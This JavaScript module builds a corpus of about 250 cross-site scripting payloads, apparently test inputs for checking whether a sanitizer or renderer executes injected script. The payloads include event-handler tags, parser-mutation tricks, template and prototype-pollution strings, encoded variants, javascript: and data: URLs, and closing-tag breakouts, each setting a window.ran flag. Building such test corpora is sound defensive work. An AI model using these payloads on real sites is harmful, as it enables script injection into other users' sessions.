// SPDX-License-Identifier: GPL-3.0-or-later
// hostile.mjs - the 250 texts of trial W2: what a stranger writes into a name, a subject, a comment, so that it runs in the page of whoever reads
// it. Written by hand where the trick is in the whole (mutations of a parser, templates, prototypes), else each trick with each of its forms.
// All set window.ran.
const run = 'window.ran=1'
const image = `<img src=x onerror=${run}>`,
  script = `<script>${run}</script>`

const whole = [
  script,
  image,
  `'>${image}`,
  `<img src=x onerror="${run}">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<body onload=${run}>`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `javascript:${run}`,
  `<math><mtext><table><mglyph><style>${image}`,
  `<noscript><p title="</noscript>${image}">`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<input autofocus onfocus=${run}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="data:text/css,*{x:expression(${run})}">`,
  `<style>@import'javascript:${run}';</style>`,
  `<base href="javascript:/">`,
  `<form action="javascript:${run}"><button>x`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `[[${run}]]`,
  `{contact.company}${image}`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img/src=x/onerror=${run}>`,
  `<x contenteditable onblur=${run}>y`,
  `__proto__`,
  `constructor`,
  `{"__proto__":{"polluted":1}}`,
  `__proto__[polluted]=1`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `＜script＞${run}＜/script＞`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\u2028${script}`,
  `\u202e>tpircs<${script}`,
  `\ufeff${script}`,
  `<img src="data:image/svg+xml,<svg onload=${run}>">`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${run} /></svg>#x">`,
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
  `<svg></p><style><a id="</style>${image}">`,
  `<svg><style><a title="</style>${image}">`,
  `<math><mi><table><mglyph><style><!--</style><img title="--&gt;${image}">`,
  `<a id=x><a id=x name=ran href=cid:1>`,
  `<form id=getElementById><input name=body>`,
  `<table background="javascript:${run}"><td>`,
  `<p style="background:url(javascript:${run})">`,
  `<p style="animation:x" onanimationstart=${run}><style>@keyframes x{}</style>`,
  `<script src=data:,${run}></script>`,
  `<script type=module>${run}</script>`,
  `<script>import('data:text/javascript,${run}')</script>`,
  `<template><img src=x onerror=${run}></template><script>document.body.append(document.querySelector('template').content)</script>`,
  `<dialog open onclose=${run}><form method=dialog><button autofocus>x`,
  `<select onfocus=${run} autofocus><option>`,
  `<marquee onstart=${run}>x</marquee>`,
  `=HYPERLINK("javascript:${run}";"x")`,
  `[x](javascript:${run})`,
  `![x](x"onerror="${run})`,
  `<https://x" onmouseover=${run}>`,
  `https://x/" onmouseover="${run}`,
  `mailto:a@b?subject=x"onclick="${run}`,
  `"><br onclick=${run}>@example.com`,
  `'-(${run})-'`,
  `\`-(${run})-\``,
  `\\'-(${run})//`,
  `;${run}//`,
  `</a onmousemove=${run}>`,
  `<!--><img src=x onerror=${run}>`,
  `<![CDATA[><script>${run}</script>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<plaintext>${script}`,
  `${'<div>'.repeat(600)}${image}`,
  `${'я'.repeat(3000)}${image}`
]

// What the text may stand in, closed.
const closers = [
  '">',
  "'>",
  '`>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</option></select>',
  '</svg>',
  '</math>',
  '-->',
  ']]>',
  '*/',
  '</xmp>',
  '</iframe>',
  '</noembed>'
]
const closed = closers.flatMap((c) => [`${c}${script}`, `${c}${image}`, `${c}<svg/onload=${run}>`])

// An address that runs, where an address may stand.
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java&#10;script:${run}`,
  `&#106;avascript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `data:text/html,<script>parent.ran=1</script>`,
  `vbscript:${run}`,
  `view-source:javascript:${run}`
]
const places = [
  (u) => `<a href="${u}">x</a>`,
  (u) => `<iframe src="${u}">`,
  (u) => `<object data="${u}">`,
  (u) => `<embed src="${u}">`,
  (u) => `<svg><a xlink:href="${u}"><text>x</text></a></svg>`,
  (u) => `<button formaction="${u}" form=f>x</button><form id=f>`,
  (u) => `<math href="${u}">x</math>`
]
const linked = places.flatMap((place) => addresses.map(place))

// A handler that fires by itself, and how the words of a tag may be told apart.
const firing = [
  ['audio src=x', 'onerror'],
  ['video src=x', 'onerror'],
  ['svg', 'onload'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['iframe src=about:blank', 'onload'],
  ['object data=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['div contenteditable autofocus tabindex=1', 'onfocus'],
  ['svg><set', 'onend'],
  ['style', 'onload'],
  ['body', 'onpageshow'],
  ['div style=overflow:scroll', 'onscroll']
]
const apart = [' ', '/', '\n', '\f']
const fired = firing.flatMap(([tag, on]) => apart.map((gap) => `<${tag}${gap}${on}=${run}>`))

export const hostile = [...new Set([...whole, ...closed, ...linked, ...fired])]
